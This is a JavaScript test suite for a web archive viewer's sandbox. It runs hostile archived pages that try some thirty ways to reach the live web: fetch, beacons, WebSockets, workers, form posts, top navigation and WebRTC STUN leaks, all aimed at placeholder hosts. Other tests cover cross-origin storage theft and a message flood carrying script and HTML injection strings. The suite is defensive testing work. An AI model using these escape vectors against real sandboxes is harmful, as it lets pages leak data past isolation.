// Pages that want out. Each runs twice: as an archived page with our script, and bare, which stands for a hostile script
// that has found untouched functions: then only the wall (policy, sandbox, origins) is left, and must hold alone.
// Every attempt ends with an event that the page waits for; the trap is looked at again when the browser has closed.
//
// With our script on a replay origin of its own the live web must hear nothing, and no name be looked up. Without it, or
// in an opaque origin where it cannot see navigations, Chromium opens a connection to where a frame wants to go before
// it asks the policy that forbids it: there we promise that no request is made. Names tell the two apart.

import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { startStage } from './archive.js';
import { launchBrowser, until } from './harness.js';

const PAGE = 'http://evil.example/page.html';
const { trap, archive, browser, close } = await startStage();

after(async () => {
    const names = await close();
    assert.deepEqual(trap.requests(), [], 'the live web was asked for something');
    assert.deepEqual(
        names.filter(name => !name.endsWith('suspected.example')),
        [],
        'names were looked up',
    );
});

// Where our script sees everything, nothing at all may be heard; elsewhere the names are others.
const strict = (mode, bare) => mode === 'names' && !bare;
const heard = (mode, bare) => (strict(mode, bare) ? trap.seen : trap.requests());
const from = (mode, bare, code) => (strict(mode, bare) ? code : code.replaceAll('live.example', 'suspected.example'));

async function show(mode, page, given) {
    trap.seen.splice(0, trap.seen.length, ...trap.requests());
    archive.pages = page.pages ?? {};
    const html = `<!doctype html><html><head><title>evil</title></head><body>${page.body ?? ''}<script>${page.script.replaceAll('UDP_PORT', trap.udpPort)}</script></body></html>`;
    archive.pages[PAGE] = page.bare ? { type: 'text/html', body: html, bare: true } : html;
    archive.asked.length = 0;
    const context = given ?? (await browser.newContext());
    context.setDefaultTimeout(8000);
    const tab = await context.newPage();
    await tab.goto(archive.viewerUrl(mode, PAGE));
    const frame = await (await tab.waitForSelector('iframe')).contentFrame();
    return { context, tab, frame };
}

// What ends when the attempt was refused, or answered by the archive.
const ATTEMPTS = {
    fetch: `return fetch('http://live.example/fetch').then(() => 'came', () => 'failed')`,
    'fetch without CORS': `return fetch('http://live.example/fetch2', { mode: 'no-cors', keepalive: true }).then(() => 'came', () => 'failed')`,
    XMLHttpRequest: `const x = new XMLHttpRequest(); x.open('GET', 'http://live.example/xhr'); x.send(); return ended(x, 'loadend')`,
    EventSource: `const s = new EventSource('http://live.example/es'); await ended(s, 'error'); s.close()`,
    WebSocket: `return ended(new WebSocket('ws://live.example/ws'), 'error')`,
    sendBeacon: `navigator.sendBeacon('http://live.example/beacon', 'x')`,
    img: `const i = new Image(); i.src = 'http://live.example/i.gif'; return ended(i, 'error')`,
    script: `return inserted('script', { src: 'http://live.example/s' })`,
    'style sheet': `return inserted('link', { rel: 'stylesheet', href: 'http://live.example/c' })`,
    'an import in a style added later': `const s = document.createElement('style'); s.textContent = '@import "http://live.example/import";'; document.head.append(s); return ended(s, 'error', 'load')`,
    preload: `return inserted('link', { rel: 'preload', as: 'image', href: 'http://live.example/preload' })`,
    prefetch: `return inserted('link', { rel: 'prefetch', href: 'http://live.example/prefetch' })`,
    prerender: `document.head.append(Object.assign(document.createElement('link'), { rel: 'prerender', href: 'http://live.example/prerender' }))`,
    'speculation rules': `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ urls: ['http://live.example/speculated'], eagerness: 'immediate' }], prerender: [{ urls: ['http://live.example/spec2'], eagerness: 'immediate' }] }); document.head.append(s)`,
    iframe: `return inserted('iframe', { src: 'http://live.example/frame' })`,
    object: `return inserted('object', { data: 'http://live.example/object' })`,
    video: `const v = document.createElement('video'); v.src = 'http://live.example/v'; return ended(v, 'error')`,
    font: `return new FontFace('f', 'url(http://live.example/f)').load().then(() => 'came', () => 'failed')`,
    ping: `const a = document.createElement('a'); a.href = '#x'; a.ping = 'http://live.example/ping'; document.body.append(a); a.click()`,
    'a form into a frame': `const f = document.createElement('iframe'); f.name = 'sink'; document.body.append(f);
        const form = document.createElement('form'); form.method = 'post'; form.target = 'sink'; form.action = 'http://live.example/form'; document.body.append(form); form.submit()`,
    'window.open': `window.open('http://live.example/open')`,
    'top.location': `try { top.location = 'http://live.example/top' } catch (error) { return error.name }`,
    'parent.location.replace': `try { window.top.location.replace('http://live.example/top2') } catch (error) { return error.name }`,
    'a link to the top': `const a = document.createElement('a'); a.href = 'http://live.example/top3'; a.target = '_top'; a.addEventListener('click', event => event.preventDefault()); document.body.append(a); a.click()`,
    'importScripts in a worker': `const w = new Worker(URL.createObjectURL(new Blob(["try { importScripts('http://live.example/w') } catch {} fetch('http://live.example/w2').then(() => postMessage(1), () => postMessage(2))"]))); return ended(w, 'message', 'error')`,
    'import()': `return import('http://live.example/module').then(() => 'came', () => 'failed')`,
    'XSLT and SVG': `document.body.insertAdjacentHTML('beforeend', '<svg><image href="http://live.example/svg"/><use href="http://live.example/use#x"/></svg>'); const i = document.body.querySelector('svg image'); return ended(i, 'error')`,
    'a manifest': `document.head.append(Object.assign(document.createElement('link'), { rel: 'manifest', href: 'http://live.example/manifest' }))`,
    WebTransport: `if (!window.WebTransport) return; try { await new WebTransport('https://live.example/wt').ready } catch (error) { return error.name }`,
    'a service worker of its own': `try { await navigator.serviceWorker.register(location.pathname.replace('page.html', 'sw.js')); return 'registered' } catch (error) { return error.name }`,
};
// Not behind the wall: no policy of Chromium's speaks of these, so only our script is between them and the network.
const OPEN = {
    'dns-prefetch and preconnect': `for (const rel of ['dns-prefetch', 'preconnect']) {
            document.head.append(Object.assign(document.createElement('link'), { rel, href: 'http://' + rel + '.live.example/' }));
            document.body.insertAdjacentHTML('beforeend', '<link rel="' + rel + '" href="//' + rel + '2.live.example">');
        }`,
    WebRTC: `await gather(window)`,
    'WebRTC from an empty frame': `const f = document.createElement('iframe'); document.body.append(f); let w = window[window.length - 1]; try { w.RTCPeerConnection } catch { w = null } if (w) await gather(w)`,
    'WebRTC from a frame of markup': `document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="<script>(' + String(gather).replace(/"/g, '&quot;') + ')(window).then(() => parent.postMessage(7, \\'*\\'))</scr' + 'ipt>"></iframe>'); await ended(window, 'message')`,
    'WebRTC from a blob document': `const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(['<script>(' + gather + ')(window).then(() => parent.postMessage(7, "*"))</scr' + 'ipt>'], { type: 'text/html' })); document.body.append(f); await ended(window, 'message')`,
    'WebRTC from a data document': `const f = document.createElement('iframe'); f.src = 'data:text/html,' + encodeURIComponent('<script>(' + gather + ')(window).then(() => parent.postMessage(7, "*"))</scr' + 'ipt>'); document.body.append(f); await ended(window, 'message')`,
    'WebRTC from a javascript: document': `const f = document.createElement('iframe'); f.src = 'javascript:' + JSON.stringify('<script>(' + gather + ')(window).then(() => parent.postMessage(7, "*"))</scr' + 'ipt>'); document.body.append(f); try { f.contentWindow.document; await ended(window, 'message') } catch {}`,
};
const TOOLS = `
    function ended(target, ...names) { return new Promise(done => { for (const name of names) target.addEventListener(name, () => done(name), { once: true }); addEventListener('securitypolicyviolation', () => setTimeout(done), { once: true }); }); }
    function inserted(name, properties) { const e = Object.assign(document.createElement(name), properties); const end = ended(e, 'load', 'error'); document.body.append(e); return end; }
    async function gather(w) {
        const peer = new w.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:UDP_PORT' }] });
        peer.createDataChannel('x');
        const gathered = new Promise(done => { peer.onicegatheringstatechange = () => { if (peer.iceGatheringState === 'complete') done(); }; });
        await peer.setLocalDescription(await peer.createOffer());
        await gathered;
        peer.close();
    }
    async function attempt(name, run) { try { await run(); } catch (error) { console.log(name, error); } (window.done ??= []).push(name); }`;
const pageOf = attempts =>
    `${TOOLS}\n(async () => { ${Object.entries(attempts)
        .map(([name, code]) => `await attempt(${JSON.stringify(name)}, async () => { ${code} });`)
        .join('\n')} window.finished = true; })();`;

for (const mode of ['names', 'opaque']) {
    for (const bare of [false, true]) {
        test(`${mode}, ${bare ? 'bare' : 'with our script'}: ${Object.keys(ATTEMPTS).length} ways out lead nowhere`, async () => {
            const shown = await show(mode, { script: from(mode, bare, pageOf(ATTEMPTS)), bare });
            try {
                await shown.frame
                    .waitForFunction(() => window.finished)
                    .catch(async () => {
                        throw new Error(`ended after: ${(await shown.frame.evaluate(() => window.done)).at(-1)}`);
                    });
                assert.deepEqual(await shown.frame.evaluate(() => window.done), Object.keys(ATTEMPTS));
                assert.deepEqual(heard(mode, bare), []);
                // The viewer stands where it stood.
                assert.equal(shown.tab.url(), archive.viewerUrl(mode, PAGE));
                assert.equal(shown.context.pages().length, 1);
            } finally {
                await shown.context.close();
            }
        });
        for (const [name, code] of Object.entries({
            location: `location = 'http://live.example/location'`,
            'location.replace': `location.replace('https://live.example/location')`,
            'a form by POST': `const f = document.createElement('form'); f.method = 'post'; f.action = 'http://live.example/post'; document.body.append(f); f.submit()`,
            'a form by GET': `document.body.innerHTML = '<form action="http://live.example/get"><input name=q></form>'; document.forms[0].submit()`,
            'a link': `const a = document.createElement('a'); a.href = 'http://live.example/link'; document.body.append(a); a.click()`,
            'a meta refresh': `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content="0;url=http://live.example/refresh">')`,
        })) {
            test(`${mode}, ${bare ? 'bare' : 'with our script'}: ${name} to the live web`, async () => {
                // What comes of it differs: the archive's page, the browser's own page of refusal, or nothing at all.
                // All of them have been decided when a second page has been shown after it.
                const shown = await show(mode, {
                    script: `addEventListener('load', () => setTimeout(() => { ${from(mode, bare, code)}; document.title = 'tried' }))`,
                    bare,
                });
                try {
                    await until(archive.events, 'request', () => archive.asked.includes(PAGE), 'the page');
                    await shown.tab.goto(archive.viewerUrl(mode, 'http://evil.example/next.html'));
                    await until(
                        archive.events,
                        'request',
                        () => archive.asked.some(url => url.endsWith('next.html')),
                        'the next page',
                    );
                    assert.deepEqual(heard(mode, bare), []);
                } finally {
                    await shown.context.close();
                }
            });
        }
    }
    test(`${mode}: what no policy covers is kept in by our script: ${Object.keys(OPEN).length} ways`, async () => {
        // An everyday profile, because others do not connect ahead of need.
        const everyday = await launchBrowser(trap, { everyday: true });
        let names = ['the browser was not closed'];
        try {
            const shown = await show(mode, { script: pageOf(OPEN) }, everyday.context);
            await shown.frame
                .waitForFunction(() => window.finished)
                .catch(async () => {
                    throw new Error(`ended after: ${(await shown.frame.evaluate(() => window.done))?.at(-1)}`);
                });
        } finally {
            names = await everyday.close();
        }
        assert.deepEqual(trap.seen, []);
        assert.deepEqual(names, []);
    });
}

test("another archived site's storage and document are out of reach", async () => {
    const shown = await show('names', {
        script: `const frame = document.createElement('iframe'); frame.src = 'http://bank.example/account.html';
            frame.onload = () => {
                const seen = [];
                try { seen.push(frame.contentWindow.localStorage.secret); } catch (error) { seen.push(error.name); }
                try { seen.push(frame.contentDocument); } catch (error) { seen.push(error.name); }
                seen.push(localStorage.secret ?? null);
                window.result = seen;
            };
            document.body.append(frame);`,
        pages: {
            'http://bank.example/account.html':
                '<!doctype html><title>bank</title><script>localStorage.secret = "s"; document.cookie = "s=1"</script>',
        },
    });
    assert.deepEqual(await (await shown.frame.waitForFunction(() => window.result)).jsonValue(), [
        'SecurityError',
        null,
        null,
    ]);
    await shown.context.close();
});

test('a page that floods the viewer with messages and titles leaves it standing, with the truth at the end', async () => {
    const shown = await show('names', {
        script: `addEventListener('load', () => {
                for (let n = 0; n < 5000; n++) {
                    top.postMessage({ herodotus: 1, kind: 'at', url: 'javascript:alert(' + n + ')', stamp: '<b>', title: '<img src=x>' }, '*');
                    // A browser ignores more than about two hundred of these.
                    if (n % 50 === 49) history.replaceState(null, '', '?n=' + n);
                    document.title = 'flood ' + n;
                }
            });`,
    });
    await shown.tab.waitForFunction(() => messages.at(-1)?.title === 'flood 4999');
    const last = await shown.tab.evaluate(() => messages.at(-1));
    assert.equal(last.url, 'http://evil.example/page.html?n=4999');
    assert.equal(await shown.tab.evaluate(() => document.querySelectorAll('img, b').length), 0);
    // Ours were told once, not five thousand times.
    assert.ok(await shown.tab.evaluate(() => messages.filter(message => message.title.startsWith('flood')).length < 5));
    await shown.context.close();
});
